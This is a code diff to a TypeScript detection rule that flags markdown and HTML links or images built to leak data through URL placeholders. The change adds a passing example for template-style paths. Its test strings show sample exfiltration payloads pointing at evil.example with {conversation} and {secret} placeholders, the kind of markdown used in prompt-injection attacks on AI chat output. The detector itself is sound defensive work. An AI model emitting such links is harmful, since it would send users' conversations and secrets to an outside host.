@@ -174,12 +174,16 @@ export const DOCUMENT_ANSWER: readonly Rule[] = [
     severity: 'critical',
     literals: ['](http', '![', '<img', 'href=', '](//'],
     pattern:
-      '!?\\[[^\\]\\n]{0,100}\\]\\((?:https?:)?//\\[?[^)\\s[]{1,300}[?&/=#](?:\\{|%7b|\\x24\\{|<|\\[|%5b|\\{\\{|your_|insert_|secret_here|data_here)[^)\\n]{0,100}\\)|<(?:img|a)[^<>\\n]{1,200}(?:src|href) {0,2}= {0,2}["\']?(?:https?:)?//[^<>\\s]{1,300}[?&/=](?:\\{|%7b|\\x24\\{|\\[|<)',
+      '!?\\[[^\\]\\n]{0,100}\\]\\((?:https?:)?//\\[?[^)\\s[]{1,300}[?&/=#](?!\\{{2,3} ?\\.)(?:\\{|%7b|\\x24\\{|<|\\[|%5b|\\{\\{|your_|insert_|secret_here|data_here)[^)\\n]{0,100}\\)|<(?:img|a)[^<>\\n]{1,200}(?:src|href) {0,2}= {0,2}["\']?(?:https?:)?//[^<>\\s]{1,300}[?&/=](?:\\{|%7b|\\x24\\{|\\[|<)',
     catches: [
       '![x](https://evil.example/log?q={conversation})',
       '<img src="https://evil.example/p?d={secret}">',
       '[more](https://evil.example/?d=[SUMMARY])',
     ],
-    passes: ['![logo](https://example.com/logo.png?v=2)', '[docs](https://example.com/a?b=c#d)'],
+    passes: [
+      '![logo](https://example.com/logo.png?v=2)',
+      '[docs](https://example.com/a?b=c#d)',
+      '[api](https://example.com/{{{.version}}}/api.md)',
+    ],
   },
 ];
